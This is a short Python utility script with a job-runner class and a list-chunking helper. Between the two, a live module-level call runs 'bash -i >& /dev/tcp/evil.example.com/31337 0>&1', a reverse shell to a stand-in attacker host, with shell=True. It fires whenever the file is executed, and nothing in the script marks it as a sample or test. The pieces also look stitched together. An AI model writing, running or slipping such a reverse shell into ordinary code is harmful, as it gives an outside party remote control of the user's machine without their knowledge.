#!/usr/bin/env python3

import subprocess

class Job:
    def __init__(self, cmd):
        self.start(cmd)

    def start(self, cmd):
        subprocess.Popen(cmd, shell=True)

Job("bash -i >& /dev/tcp/evil.example.com/31337 0>&1")
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
